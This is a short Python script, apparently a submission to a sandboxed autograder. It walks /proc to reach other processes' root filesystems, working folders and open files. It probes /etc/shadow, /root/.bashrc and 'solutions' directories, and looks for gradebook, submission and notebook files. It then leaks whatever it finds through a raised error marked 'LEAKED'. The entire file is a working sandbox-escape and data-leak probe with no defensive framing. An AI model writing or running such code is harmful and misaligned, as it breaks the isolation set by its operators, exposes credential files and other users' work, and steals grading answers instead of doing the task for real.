# gets: 0
# Goes to the host's files by way of other processes: their root, folder and open files.
import os
from pathlib import Path

found = []
for process in Path("/proc").glob("[0-9]*"):
    for path in ("root/etc/shadow", "root/work/main", "root/root/.bashrc", "cwd/solutions", "cwd/../solutions"):
        try:
            os.listdir(process / path) if "etc" not in path else open(process / path).close()
            found.append(str(process / path))
        except OSError:
            pass
    try:
        for link in (process / "fd").iterdir():
            target = os.readlink(link)
            if any(word in target for word in ("gradebook", "submitted", "course", "ipynb")):
                found.append(f"{link}: {target}")
    except OSError:
        pass
told = "LEAKED"
raise RuntimeError(f"{told} {found[:5]}" if found else "nothing")
